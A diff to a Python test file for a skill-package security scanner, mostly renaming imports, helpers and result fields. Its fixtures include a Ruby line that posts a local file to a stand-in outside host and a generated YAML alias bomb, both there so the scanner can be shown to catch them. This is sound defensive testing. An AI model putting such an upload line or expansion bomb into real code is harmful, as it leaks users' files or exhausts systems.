@@ -2,23 +2,23 @@
 
 import pytest
 
-from hermes.app.exchange_checks import shell_effects
-from hermes.skills.scanner.finding import Entry
-from hermes.skills.scanner.growing import grown
-from hermes.skills.scanner.run_by_others import commands_in
-from hermes.skills.scanner.scan import Scan, scan
+from hermes.learning.exchange_publisher import shell_effects
+from hermes.skills.scanner.file_structure import count_expanded_words
+from hermes.skills.scanner.finding import SkillFile
+from hermes.skills.scanner.scan import ScanResult, scan_skill
+from hermes.skills.scanner.shell_text import extract_commands
 
 
-def looked(description: str, body: str, *files: tuple[str, str]) -> Scan:
+def looked(description: str, body: str, *files: tuple[str, str]) -> ScanResult:
     skill = f"---\nname: tool\ndescription: {description}\n---\n# Tool\n\n{body}\n"
-    entries = [Entry(path="SKILL.md", data=skill.encode())]
-    entries += [Entry(path=path, data=text.encode()) for path, text in files]
-    return scan(entries, "tool", shell_effects)
+    entries = [SkillFile(path="SKILL.md", data=skill.encode())]
+    entries += [SkillFile(path=path, data=text.encode()) for path, text in files]
+    return scan_skill(entries, "tool", shell_effects)
 
 
 def causes(path: str, text: str) -> str:
     found = looked("Counts words.", "Run it on a file.", (path, text))
-    return "; ".join(each.cause for each in found.reasons)
+    return "; ".join(each.cause for each in found.blocking_findings)
 
 
 @pytest.mark.parametrize(
@@ -108,7 +108,7 @@ def test_settings_that_some_other_program_runs_are_read_as_code(path: str, text:
 
 def test_commands_among_settings_stay_on_their_lines() -> None:
     text = "a: 1\nrun: |\n  first\n  second\nother: x\ncommand: [sh, '-c', 'third']\n"
-    shown = commands_in("a.yaml", text).split("\n")
+    shown = extract_commands("a.yaml", text).split("\n")
     assert [line.strip() for line in shown] == ["", "", "first", "second", "", "-c third", ""]
 
 
@@ -116,8 +116,8 @@ def test_an_address_in_the_code_has_to_be_in_the_text() -> None:
     code = ("scripts/a.rb", 'Net::HTTP.post(URI("https://in.stranger.test/x"), File.read("a"))\n')
     own = looked("Sends files to Stranger.", "It uploads to the API of Stranger.", code)
     other = looked("Uploads files to a server.", "It uploads over HTTP.", code)
-    assert "it knows the address" in " ".join(each.cause for each in other.reasons)
-    assert "it knows the address" not in " ".join(each.cause for each in own.reasons)
+    assert "it knows the address" in " ".join(each.cause for each in other.blocking_findings)
+    assert "it knows the address" not in " ".join(each.cause for each in own.blocking_findings)
 
 
 def test_a_common_word_in_a_host_name_is_not_whose_it_is() -> None:
@@ -130,7 +130,7 @@ def test_aliases_that_grow_without_measure_are_seen_and_shared_settings_are_not(
     for last, name in zip("abcdefg", "bcdefgh", strict=True):
         bomb += f"{name}: &{name} [{', '.join([f'*{last}'] * 10)}]\n"
     shared = "x-a: &a\n  restart: always\nweb: {<<: *a}\napi: {<<: *a}\n"
-    assert grown(bomb) > 1_000_000
+    assert count_expanded_words(bomb) > 1_000_000
     assert looked("Groups alerts.", "Use it.", ("assets/a.yaml", bomb)).blocked
     assert not looked("Shared settings.", "Use it.", ("assets/a.yaml", shared)).blocked
 
@@ -193,4 +193,4 @@ def test_orders_over_several_sentences_and_in_other_languages_are_seen(body: str
     ],
 )
 def test_words_that_explain_or_protect_pass(body: str) -> None:
-    assert not looked("Notes for the team.", body).reasons
+    assert not looked("Notes for the team.", body).blocking_findings
